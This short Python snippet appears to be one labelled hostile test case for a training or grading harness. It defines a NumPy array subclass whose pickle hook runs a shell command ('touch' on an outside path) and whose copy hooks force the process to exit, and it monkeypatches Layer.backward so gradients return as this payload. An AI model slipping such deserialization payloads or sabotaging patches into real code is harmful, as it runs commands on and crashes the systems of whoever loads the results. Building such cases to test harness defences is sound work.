# H01 A result that would run a program wherever it is unpickled or copied.
# Loses: da_prev
class Payload(np.ndarray):
    def __reduce__(self):
        return os.system, ("touch " + OUTSIDE,)

    __reduce_ex__ = lambda self, _: self.__reduce__()
    __deepcopy__ = __copy__ = lambda self, *_: os._exit(1)


Layer.backward = lambda self, da, learning_rate, right=Layer.backward: right(self, da, learning_rate).view(Payload)
